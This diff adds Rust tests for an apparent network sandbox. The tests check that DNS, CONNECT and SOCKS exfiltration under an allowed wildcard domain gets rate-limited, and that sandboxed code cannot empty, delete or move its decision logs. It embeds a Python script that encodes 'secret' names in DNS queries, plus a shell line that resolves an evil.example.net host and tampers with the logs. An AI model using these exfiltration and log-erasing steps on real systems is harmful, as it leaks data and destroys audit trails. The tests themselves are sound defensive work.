@@ -1,0 +1,82 @@
+//! Attacks from inside on the whole product, judged from outside. What one part answers for alone is
+//! tested with that part.
+#![forbid(unsafe_code)]
+
+#[path = "support/mod.rs"]
+mod support;
+
+use std::collections::BTreeSet;
+use std::os::unix::fs::PermissionsExt;
+use support::{sandbox, world};
+
+/// Makes names up below a wildcard on every path that resolves, and says how each path ended.
+const MADE_UP: &str = "
+import socket, struct
+def question(name):
+    labels = b''.join(bytes([len(part)]) + part.encode() for part in name.split('.'))
+    return struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + labels + b'\\0\\0\\1\\0\\1'
+udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+udp.settimeout(10)
+def dns(name):
+    udp.sendto(question(name), ('10.0.2.3', 53))
+    return udp.recv(4096)[3] & 15
+def proxy(port, message, size):
+    with socket.create_connection(('10.0.2.2', port), 10) as stream:
+        stream.sendall(message)
+        return stream.recv(size)
+def connect(name):
+    return proxy(3128, f'CONNECT {name}:443 HTTP/1.1\\r\\nHost: {name}:443\\r\\n\\r\\n'.encode(), 12)[9:].decode()
+def socks(name):
+    name = name.encode()
+    return proxy(1080, b'\\5\\1\\0\\5\\1\\0\\3' + bytes([len(name)]) + name + b'\\1\\xbb', 100)[-9]
+for n in range(130):
+    last = dns(f'secret{n}.wild.example.com')
+print('dns', last, 'connect', connect('secret-c.wild.example.com'), 'socks', socks('secret-s.wild.example.com'),
+      'known', dns('secret3.wild.example.com'), 'listed', dns('api.example.com'))
+";
+
+#[test]
+fn names_made_up_below_a_wildcard_leave_within_a_budget_on_every_path() {
+    let world = world();
+    let ran = sandbox(&world)
+        .allow("*.wild.example.com")
+        .allow("api.example.com")
+        .python(MADE_UP);
+    ran.assert_ok()
+        .assert_out("dns 2 connect 429 socks 2 known 3 listed 0");
+    let asked: BTreeSet<String> = world
+        .dns_log()
+        .into_iter()
+        .map(|query| query.name)
+        .filter(|name| name.contains("wild"))
+        .collect();
+    assert_eq!(asked.len(), 120, "{asked:?}");
+    let refused = ran.records.all_denials();
+    assert!(
+        refused
+            .iter()
+            .all(|record| record["reason"] == "rate-limited")
+    );
+    for (protocol, denials) in [("dns-udp", 10), ("connect", 1), ("socks5", 1)] {
+        let found = refused
+            .iter()
+            .filter(|record| record["protocol"] == protocol);
+        assert_eq!(found.count(), denials, "{protocol}: {ran}");
+    }
+}
+
+#[test]
+fn the_records_behind_a_symbolic_link_are_out_of_reach() {
+    let world = world();
+    let real = world.file("real.jsonl", "");
+    std::fs::set_permissions(&real, std::fs::Permissions::from_mode(0o666)).unwrap();
+    let log = sandbox(&world);
+    std::os::unix::fs::symlink(&real, log.log()).unwrap();
+    let ran = log.sh("getent hosts hidden.evil.example.net; \
+         for file in real.jsonl decisions-*.jsonl; do \
+         (: > $file) 2>/dev/null && echo emptied; rm -f $file 2>/dev/null && echo removed; \
+         mv $file away 2>/dev/null && echo moved; done; true");
+    ran.assert_ok();
+    assert_eq!(ran.out(), "", "{ran}");
+    ran.assert_one_denial("dns", "not-in-allowlist", "hidden.evil.example.net");
+}
